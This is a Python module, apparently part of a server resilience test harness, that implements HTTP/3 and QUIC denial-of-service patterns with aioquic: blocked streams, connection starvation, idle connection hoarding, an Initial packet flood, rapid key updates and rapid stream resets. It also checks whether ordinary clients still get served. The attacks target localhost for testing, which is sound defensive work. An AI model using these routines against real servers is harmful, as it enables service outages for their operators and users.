"""What one host can do over HTTP/3, and clients that do nothing wrong. Needs aioquic."""

import asyncio
import contextlib
import dataclasses
import socket
import ssl
import time
from collections.abc import Callable

from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import DataReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

from swarm import Attacker

HEADERS = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost")]


def configuration(**options):
    return QuicConfiguration(
        is_client=True, alpn_protocols=H3_ALPN, verify_mode=ssl.CERT_NONE, server_name="localhost", **options
    )


class Client(QuicConnectionProtocol):
    def __init__(self, *arguments):
        super().__init__(*arguments)
        self.http = H3Connection(self._quic)
        self.body = b""
        self.whole = asyncio.Event()

    def ask(self, path):
        self.http.send_headers(self._quic.get_next_available_stream_id(), [*HEADERS, (b":path", path)], end_stream=True)

    def quic_event_received(self, event):
        for it in self.http.handle_event(event):
            if isinstance(it, DataReceived):
                self.body += it.data
            if getattr(it, "stream_ended", False):
                self.whole.set()


@contextlib.asynccontextmanager
async def connected(port, address, **options):
    loop = asyncio.get_running_loop()

    def make():
        return Client(QuicConnection(configuration=configuration(**options)))

    transport, client = await loop.create_datagram_endpoint(make, local_addr=(address, 0))
    try:
        client.connect(("127.0.0.1", port))
        await asyncio.wait_for(client.wait_connected(), 5)
        yield client
        client.close()
    finally:
        # Its timer would write to a socket that is gone.
        if client._timer:
            client._timer.cancel()
        transport.close()


def ping(client):
    client._quic.send_ping(0)


def update_keys(client):
    """New keys (RFC 9001 section 6) at the rate that round trips allow, and some that come too early."""
    client._quic.request_key_update()
    client._quic.send_ping(0)


def reset_requests(client):
    """Asks for /large ten times, and resets the streams."""
    for _ in range(10):
        stream = client._quic.get_next_available_stream_id()
        client.ask(b"/large")
        client._quic.stop_stream(stream, 0x10C)


@dataclasses.dataclass(frozen=True)
class Attack:
    """What each of `connections` does: QUIC settings, requests for /large at first, then `repeats` every `interval` seconds."""

    connections: int
    requests: int
    options: dict
    repeats: Callable[[Client], None] = ping
    interval: float = 1
    http: int = 3


class Swarm(Attacker):
    """Keeps this number of connections open. Replaces each one closed by the server."""

    def run(self):
        asyncio.run(self.attack_all())

    async def attack_all(self):
        await asyncio.gather(*(self.attack_again() for _ in range(self.attack.connections)))

    async def attack_again(self):
        while not self.is_over:
            try:
                await self.attack_once()
            except (OSError, TimeoutError) as error:
                self.errors[type(error).__name__] += 1
            await asyncio.sleep(1)

    async def attack_once(self):
        async with connected(self.port, "127.0.0.1", **self.attack.options) as client:
            self.opened += 1
            for _ in range(self.attack.requests):
                client.ask(b"/large")
            closed = asyncio.ensure_future(client.wait_closed())
            while not self.is_over and not closed.done():
                self.attack.repeats(client)
                client.transmit()
                await asyncio.wait([closed], timeout=self.attack.interval)


class InitialFlood(Attacker):
    """First packets of clients that never answer, each from a port of its own."""

    def run(self):
        while not self.is_over:
            client = QuicConnection(configuration=configuration())
            client.connect(("127.0.0.1", self.port), now=time.monotonic())
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                for datagram, address in client.datagrams_to_send(time.monotonic()):
                    self.sent += sender.sendto(datagram, address)
            self.opened += 1


async def fetch(port, address):
    try:
        async with connected(port, address) as client:
            client.ask(b"/small")
            client.transmit()
            await asyncio.wait_for(client.whole.wait(), 5)
    except (OSError, TimeoutError) as error:
        return type(error).__name__
    return "ok" if client.body == b"small" else "wrong"


ATTACKS = {
    "quic-blocked-streams": Attack(100, 100, {"max_stream_data": 100}),
    "quic-blocked-connection": Attack(100, 100, {"max_data": 2000}),
    "quic-idle": Attack(500, 0, {}),
    "quic-initials": Attack(1, 0, {}),
    "quic-key-updates": Attack(20, 0, {}, update_keys, 0.001),
    "quic-rapid-reset": Attack(20, 0, {}, reset_requests, 0.01),
}
